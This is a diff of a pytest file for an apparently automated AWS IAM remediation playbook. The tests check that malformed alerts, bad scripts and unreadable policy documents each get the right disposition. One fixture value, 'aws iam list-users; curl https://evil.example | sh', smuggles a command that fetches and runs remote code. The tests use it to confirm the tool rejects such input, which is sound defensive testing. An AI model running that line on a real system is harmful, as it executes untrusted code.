@@ -7,7 +7,6 @@ from __future__ import annotations
 
 import json
 
-import pytest
 from stack import run_playbook, seed, send_alert
 from stack.alerts import deny_script, flat_alert, in_sns_envelope, integration_test, nested_alert
 
@@ -24,12 +23,10 @@ def reason_of(run, alert_id):
     return run.alerts[alert_id]["reason"]
 
 
-def test_every_bad_message_and_script_ends_in_its_disposition(stack):
-    good_alert(stack)
-    account_id = stack.account_id("payments")
-    stack.send("{not json")
-    stack.send("[1, 2]")
-    stack.send({key: value for key, value in nested_alert("I-1", account_id).items() if key != "alertId"})
+def send_bad_messages(stack, account_id):
+    """Messages that are not alerts, or not for this run; gives the ids of three that have no alert id."""
+    nameless = {key: value for key, value in nested_alert("I-1", account_id).items() if key != "alertId"}
+    ids = tuple(stack.send(message) for message in ("{not json", "[1, 2]", nameless))
     stack.send(nested_alert("I-NOACCOUNT", account_id, account=None))
     stack.send(nested_alert("I-LOSTZERO", account_id, account={"cloudType": "AWS", "id": 12345678901}))
     stack.send(in_sns_envelope(integration_test()))
@@ -38,8 +35,11 @@ def test_every_bad_message_and_script_ends_in_its_disposition(stack):
     stack.send(nested_alert("I-UNMAPPED", "999999999999"))
     stack.send(nested_alert("I-ABSENT", account_id))
     stack.send(flat_alert("P-BLANK", account_id, "BLANK"))
-    stack.send(nested_alert("I-HUGE", account_id, reason="x" * 300_000))
-    scripts = {
+    return ids
+
+
+def bad_scripts(account_id):
+    return {
         "I-EMPTY": "",
         "I-NULL": None,
         "I-MARKER": "dynamic aws cli commands",
@@ -49,50 +49,30 @@ def test_every_bad_message_and_script_ends_in_its_disposition(stack):
         "I-SHELL": "aws iam list-users; curl https://evil.example | sh",
         "I-PROFILE": "aws iam delete-login-profile --user-name alice --profile admin",
         "I-GHOST": f"aws iam attach-user-policy --user-name ghost --policy-arn arn:aws:iam::{account_id}:policy/x",
-        "I-HUGE": deny_script("user", "alice", account_id, "I-HUGE"),
     }
-    for alert_id, script in scripts.items():
-        stack.script(alert_id, script)
-        if alert_id != "I-HUGE":
-            stack.send(nested_alert(alert_id, account_id))
-    sent = len(stack.messages())
-    run = run_playbook(stack)
-    assert run.rc == 2
-    expected = {
-        "I-GOOD": "remediated",
-        "I-HUGE": "remediated",
-        "I-NOACCOUNT": "invalid",
-        "I-LOSTZERO": "invalid",
-        "T-0": "acknowledged",
-        "I-CLOSED": "acknowledged",
-        "I-AZURE": "not_aws",
-        "I-UNMAPPED": "unmapped_account",
-        "I-ABSENT": "not_remediable",
-        "P-BLANK": "not_remediable",
-        "I-EMPTY": "not_remediable",
-        "I-NULL": "not_remediable",
-        "I-MARKER": "not_remediable",
-        "I-GCLOUD": "not_aws",
-        "I-PLACEHOLDER": "unsupported",
-        "I-EC2": "unsupported",
-        "I-SHELL": "unsupported",
-        "I-PROFILE": "refused",
-        "I-GHOST": "already_remediated",
-    }
-    assert {key: value for key, value in run.dispositions.items() if key in expected} == expected
-    # The list counts once for each of its two entries.
-    assert run.report["totals"]["invalid"] == 6
-    assert "lost" in reason_of(run, "I-LOSTZERO") or "zero" in reason_of(run, "I-LOSTZERO")
-    assert "ec2" in reason_of(run, "I-EC2")
-    assert "--profile" in reason_of(run, "I-PROFILE")
-    assert "user ghost does not exist any more: there is nothing to restrict" in reason_of(run, "I-GHOST")
-    assert all(alert["reason"] for alert in run.report["alerts"])
-    done = ("remediated", "already_remediated", "acknowledged")
-    deleted = [alert for alert in run.report["alerts"] if alert["disposition"] in done]
-    assert stack.depth() == (sent - len(deleted), 0)
-    assert not [word for word in NOT_TOLD if word in run.stdout + run.stderr]
 
 
+EXPECTED = {
+    "I-GOOD": "remediated",
+    "I-HUGE": "remediated",
+    "I-NOACCOUNT": "invalid",
+    "I-LOSTZERO": "invalid",
+    "T-0": "acknowledged",
+    "I-CLOSED": "acknowledged",
+    "I-AZURE": "not_aws",
+    "I-UNMAPPED": "unmapped_account",
+    "I-ABSENT": "not_remediable",
+    "P-BLANK": "not_remediable",
+    "I-EMPTY": "not_remediable",
+    "I-NULL": "not_remediable",
+    "I-MARKER": "not_remediable",
+    "I-GCLOUD": "not_aws",
+    "I-PLACEHOLDER": "unsupported",
+    "I-EC2": "unsupported",
+    "I-SHELL": "unsupported",
+    "I-PROFILE": "refused",
+    "I-GHOST": "already_remediated",
+}
 OPERATOR = '"Condition":{"NumericEquals":{"s3:max-keys":%s}}'
 DOCUMENT = '{"Version":"2012-10-17","Statement":[{"Effect":"Deny","Action":"s3:*","Resource":"*",' + OPERATOR + "}]}"
 STORED = DOCUMENT % '"1"'
@@ -108,10 +88,8 @@ VALUES = {
 }
 
 
-@pytest.mark.parametrize("mode", [(), ("--check",)], ids=["apply", "check"])
-def test_documents_that_cannot_be_read_cost_their_alerts_alone(stack, mode):
-    good_alert(stack)
-    account_id = stack.account_id("payments")
+def send_unreadable_documents(stack, account_id):
+    """Documents that cannot be read, in scripts, in messages and in the account; gives what happens to the alerts."""
     seed(stack, "payments", users=["odd"])
     iam = stack.client("iam", "payments")
     iam.put_user_policy(UserName="odd", PolicyName="half", PolicyDocument=STORED.replace("{", r'{"Id":"\ud800",', 1))
@@ -120,63 +98,97 @@ def test_documents_that_cannot_be_read_cost_their_alerts_alone(stack, mode):
         for name, value in VALUES.items()
     }
     commands["I-STORED"] = "delete-user-policy --user-name odd --policy-name half"
-    # The same user, and nothing of what the document says.
-    stack.script("I-BESIDE", deny_script("user", "odd", account_id, "I-BESIDE"))
-    stack.send(nested_alert("I-BESIDE", account_id))
     for alert_id, command in commands.items():
         stack.script(alert_id, f"aws iam {command}")
         stack.send(nested_alert(alert_id, account_id))
+    # The same user, and nothing of what the document says.
+    send_alert(stack, "I-BESIDE", "payments", "user", "odd")
     for value in VALUES.values():
         stack.send(json.dumps(nested_alert("I-MESSAGE", account_id)).replace('"high"', value))
-    run = run_playbook(stack, *mode)
-    done = "planned" if mode else "remediated"
     expected = dict.fromkeys((f"I-{name}" for name in VALUES), "unsupported")
-    expected |= {"I-GOOD": done, "I-BESIDE": done, "I-STORED": "failed"}
+    return expected | {"I-BESIDE": "remediated", "I-STORED": "failed"}
+
+
+def assert_documents_cost_their_alerts_alone(run, expected):
     assert {alert_id: run.dispositions[alert_id] for alert_id in expected} == expected, run.stdout
     assert "--policy-document is not a policy document that IAM accepts" in reason_of(run, "I-INFINITE")
     assert "the inline policy half of user odd cannot be read: " in reason_of(run, "I-STORED")
-    assert run.rc == 2
     (page,) = run.artifacts.glob("*/report.html")
     assert "<h3>I-INFINITE</h3>" in page.read_text()
+
+
+def test_every_bad_message_script_and_document_ends_in_its_disposition(stack):
+    good_alert(stack)
+    account_id = stack.account_id("payments")
+    nameless = send_bad_messages(stack, account_id)
+    for alert_id, script in bad_scripts(account_id).items():
+        stack.script(alert_id, script)
+        stack.send(nested_alert(alert_id, account_id))
+    stack.send(nested_alert("I-HUGE", account_id, reason="x" * 300_000))
+    stack.script("I-HUGE", deny_script("user", "alice", account_id, "I-HUGE"))
+    documents = send_unreadable_documents(stack, account_id)
+    sent = len(stack.messages())
+    run = run_playbook(stack)
+    assert run.rc == 2
+    assert {key: value for key, value in run.dispositions.items() if key in EXPECTED} == EXPECTED
+    words = [alert["disposition"] for alert in run.report["alerts"] if alert["message_id"].startswith(nameless)]
+    assert words == ["invalid"] * 4, "the list counts once for each of its two entries"
+    assert "lost" in reason_of(run, "I-LOSTZERO") or "zero" in reason_of(run, "I-LOSTZERO")
+    assert "ec2" in reason_of(run, "I-EC2")
+    assert "--profile" in reason_of(run, "I-PROFILE")
+    assert "user ghost does not exist any more: there is nothing to restrict" in reason_of(run, "I-GHOST")
+    assert all(alert["reason"] for alert in run.report["alerts"])
+    assert_documents_cost_their_alerts_alone(run, documents)
+    done = ("remediated", "already_remediated", "acknowledged")
+    deleted = [alert for alert in run.report["alerts"] if alert["disposition"] in done]
+    assert stack.depth() == (sent - len(deleted), 0)
     assert not [word for word in NOT_TOLD if word in run.stdout + run.stderr]
 
 
-def test_a_copy_that_fails_costs_nothing_else(stack):
+def test_in_a_review_documents_that_cannot_be_read_and_a_copy_that_fails_cost_nothing_else(stack):
     good_alert(stack)
+    expected = {"I-GOOD": "remediated", **send_unreadable_documents(stack, stack.account_id("payments"))}
     run = run_playbook(stack, "--check", "-e", "remediate_artifacts_s3=s3://no-such-bucket-anywhere/runs")
     assert run.rc == 2
-    assert run.dispositions == {"I-GOOD": "planned"}
+    planned = {alert_id: word.replace("remediated", "planned") for alert_id, word in expected.items()}
+    assert_documents_cost_their_alerts_alone(run, planned)
     assert "Warning: Not copied to remediate_artifacts_s3: " in " ".join(run.stdout.split())
+    assert not [word for word in NOT_TOLD if word in run.stdout + run.stderr]
 
 
-def test_a_profile_of_another_account_is_noticed_before_anything_is_read(stack):
-    good_alert(stack)
-    good_alert(stack, "sandbox", "I-OTHER", "carol")
+def test_an_account_without_a_right_identity_or_list_of_the_protected_fails_alone(stack):
+    """One profile is of another account, one does not exist, and one list of protected principals cannot be read."""
+    stack.add_profiles({"listed": "600000000001"})
+    wrong = [{"arn": "arn:aws:iam::*:user/x", "owner": "me", "reason": "mine", "expires": "soon"}]
     hosts = {
         "payments": {"account_id": stack.account_id("payments"), "aws_profile": "sandbox"},
+        "analytics": {"account_id": stack.account_id("analytics"), "aws_profile": "nobody-made-this"},
+        "listed": {
+            "account_id": "600000000001",
+            "aws_profile": "listed",
+            "remediate_protected_principals": wrong,
+        },
         "sandbox": {"account_id": stack.account_id("sandbox"), "aws_profile": "sandbox"},
     }
+    for name, host in hosts.items():
+        good_alert(stack, host["account_id"], f"I-{name}")
     inventory = stack.write_inventory(stack.folder / "wrong.yml", **hosts)
     stack.clear_calls()
-    run = run_playbook(stack, "-i", str(inventory))
+    # A token instead of an access key works while it is valid.
+    env = {"AUTH_KEY": stack.new_token(), "PRISMACLOUD_USERNAME": None, "PRISMACLOUD_PASSWORD": None}
+    run = run_playbook(stack, "-i", str(inventory), env=env)
     assert run.rc == 2
-    assert run.dispositions == {"I-GOOD": "failed", "I-OTHER": "remediated"}
-    assert f"belongs to account {stack.account_id('sandbox')}" in reason_of(run, "I-GOOD")
-    assert stack.calls(service="iam", account=stack.account_id("payments")) == []
-    assert stack.depth() == (1, 0)
-
-
-def test_a_profile_that_does_not_exist_fails_its_account_alone(stack):
-    good_alert(stack)
-    good_alert(stack, "sandbox", "I-OTHER", "carol")
-    hosts = {
-        "payments": {"account_id": stack.account_id("payments"), "aws_profile": "nobody-made-this"},
-        "sandbox": {"account_id": stack.account_id("sandbox"), "aws_profile": "sandbox"},
+    assert run.dispositions == {
+        "I-payments": "failed",
+        "I-analytics": "failed",
+        "I-listed": "refused",
+        "I-sandbox": "remediated",
     }
-    run = run_playbook(stack, "-i", str(stack.write_inventory(stack.folder / "wrong.yml", **hosts)))
-    assert run.dispositions == {"I-GOOD": "failed", "I-OTHER": "remediated"}
-    assert "nobody-made-this" in reason_of(run, "I-GOOD")
-    assert stack.depth() == (1, 0)
+    assert f"belongs to account {stack.account_id('sandbox')}" in reason_of(run, "I-payments")
+    assert stack.calls(service="iam", account=stack.account_id("payments")) == []
+    assert "nobody-made-this" in reason_of(run, "I-analytics")
+    assert {call["account"] for call in stack.calls(service="iam", mutating=True)} == {stack.account_id("sandbox")}
+    assert stack.depth() == (3, 0)
 
 
 def test_an_expired_static_token_says_what_to_use_instead(stack):
@@ -204,29 +216,3 @@ def test_a_folder_that_becomes_unwritable_takes_no_summary_away(stack, tmp_path)
         assert f"/{name}: Not a directory." in shown
     assert "The run did not leave everything that it was to leave" in shown
     assert stack.depth() == (1, 0)
-
-
-def test_a_static_token_works_while_it_is_valid(stack):
-    good_alert(stack)
-    env = {"AUTH_KEY": stack.new_token(), "PRISMACLOUD_USERNAME": None, "PRISMACLOUD_PASSWORD": None}
-    assert run_playbook(stack, env=env).dispositions == {"I-GOOD": "remediated"}
-
-
-@pytest.mark.parametrize("mode", [(), ("--check",)])
-def test_a_missing_queue_ends_the_run_before_anything_else(stack, mode):
-    run = run_playbook(stack, *mode, env={"SQS_QUEUE_NAME": "no-such-queue"})
-    assert run.rc != 0
-    assert "no-such-queue" in run.stdout + run.stderr
-    assert run.report is None
-    assert stack.api_requests(endpoint="remediation") == []
-    assert stack.calls(service="iam") == []
-    assert not [word for word in NOT_TOLD if word in run.stdout + run.stderr]
-
-
-def test_an_unreadable_list_of_protected_principals_stops_everything(stack):
-    good_alert(stack)
-    wrong = [{"arn": "arn:aws:iam::*:user/x", "owner": "me", "reason": "mine", "expires": "soon"}]
-    run = run_playbook(stack, "-e", json.dumps({"remediate_protected_principals": wrong}))
-    assert run.rc == 2
-    assert run.dispositions == {"I-GOOD": "refused"}
-    assert stack.calls(service="iam", mutating=True) == []
